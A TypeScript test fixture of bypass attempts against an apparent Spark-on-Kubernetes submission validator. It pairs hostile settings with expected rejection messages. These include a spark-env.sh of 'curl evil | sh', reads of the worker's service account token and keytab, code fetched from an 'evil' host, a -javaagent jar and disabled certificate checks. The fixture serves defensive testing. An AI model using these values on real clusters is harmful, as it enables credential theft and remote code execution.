import { withProperties, withTemplate, type LimitBypass } from './limit-bypass.ts';

const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';

/** Bypasses with spark-submit, which runs on the worker: some of native submission, and those that target the worker. */
export const SPARK_SUBMIT: readonly LimitBypass[] = [
  { about: 'an image of another registry', fields: { image: 'evil/spark:4.1' }, message: /is not an image/ },
  {
    about: "another team's service account",
    fields: { driver: { serviceAccount: 'admin' } },
    message: /"admin" is not a service account/,
  },
  withTemplate(
    'a path of the node',
    'executor',
    { volumes: [{ name: 'x', hostPath: { path: '/' } }] },
    /"\/" is a path of the node/,
  ),
  withTemplate(
    "the node's network, with the YAML 1.1 word yes",
    'driver',
    { hostNetwork: 'yes' },
    /shares the node's network/,
  ),
  {
    about: "the worker's token as the application",
    fields: { mainApplicationFile: TOKEN, sparkConf: { 'spark.kubernetes.file.upload.path': 's3a://mine' } },
    message: /is a file of the worker/,
  },
  {
    about: "the worker's token as a file",
    fields: { deps: { files: [`file://${TOKEN}`] }, sparkConf: { 'spark.kubernetes.file.upload.path': 's3a://mine' } },
    message: /is a file of the worker/,
  },
  {
    about: "the worker's token as a jar, with FILE: in capitals",
    fields: { deps: { jars: [`FILE:${TOKEN}`] }, sparkConf: { 'spark.kubernetes.file.upload.path': 's3a://mine' } },
    message: /is a file of the worker/,
  },
  withProperties(
    "the worker's token for the driver",
    { 'spark.kubernetes.authenticate.driver.oauthTokenFile': TOKEN },
    /sets other credentials/,
  ),
  withProperties(
    "the worker's certificates for the driver",
    { 'spark.kubernetes.authenticate.driver.clientKeyFile': '/etc/key' },
    /sets other credentials/,
  ),
  withProperties(
    'a pod template that is a file of the worker',
    { 'spark.kubernetes.driver.podTemplateFile': '/tmp/privileged.yaml' },
    /names a file that can't be checked/,
  ),
  withProperties(
    'a pod template at a URL',
    { 'spark.kubernetes.executor.podTemplateFile': 'https://evil/pod.yaml' },
    /names a file that can't be checked/,
  ),
  withProperties('a file of the worker as krb5.conf', { 'spark.kubernetes.kerberos.krb5.path': TOKEN }, /names a file/),
  withProperties(
    "the worker's Kerberos credentials",
    { 'spark.kerberos.principal': 'worker', 'spark.kerberos.keytab': '/etc/worker.keytab' },
    /its own Kerberos credentials/,
  ),
  {
    about: 'code that the worker downloads',
    fields: { deps: { packages: ['evil:steps:1'], repositories: ['https://evil'] } },
    message: /makes the worker fetch code/,
  },
  withProperties(
    'settings for Ivy on the worker',
    { 'spark.jars.ivySettings': '/tmp/ivy.xml' },
    /makes the worker fetch code/,
  ),
  withProperties(
    'code that changes the driver pod',
    { 'spark.kubernetes.driver.pod.featureSteps': 'evil.Step' },
    /loads code that changes pods/,
  ),
  withProperties(
    'a pod group template',
    { 'spark.kubernetes.scheduler.volcano.podGroupTemplateFile': '/tmp/x.yaml' },
    /names a file/,
  ),
  withProperties(
    'an API server with any certificate',
    { 'spark.kubernetes.trust.certificates': 'true' },
    /send its credentials to any server/,
  ),
  {
    about: 'a script that spark-submit runs on the worker',
    fields: { sparkConfFiles: { 'spark-env.sh': 'curl evil | sh' } },
    message: /would be read by spark-submit on the worker/,
  },
  {
    about: "options of the worker's JVM",
    fields: { sparkConfFiles: { 'java-opts': '-javaagent:/tmp/evil.jar' } },
    message: /would be read by spark-submit on the worker/,
  },
  {
    about: "log appenders of the worker's JVM",
    fields: { sparkConfFiles: { 'log4j2.properties': 'appender.x.type=File' } },
    message: /would be read by the worker/,
  },
  {
    about: "a Hadoop configuration for the worker's JVM",
    fields: { hadoopConfFiles: { 'core-site.xml': '<configuration/>' } },
    message: /would be read by the worker/,
  },
  {
    about: 'a store that the worker opens with its own credentials at an endpoint of the batch',
    fields: {
      mainApplicationFile: 's3a://mine/job.jar',
      sparkConf: { 'spark.hadoop.fs.s3a.endpoint': 'https://evil' },
    },
    message: /is opened by the worker itself/,
  },
  withProperties(
    "the worker's Hadoop credentials",
    { 'spark.hadoop.hadoop.security.authentication': 'kerberos' },
    /act with its own credentials/,
  ),
  {
    about: 'an option in place of a file',
    fields: { deps: { jars: ['--conf'] } },
    message: /is an option for spark-submit/,
  },
  withProperties('more executors', { 'spark.executor.instances': '400' }, /may be 400 at a time/),
];
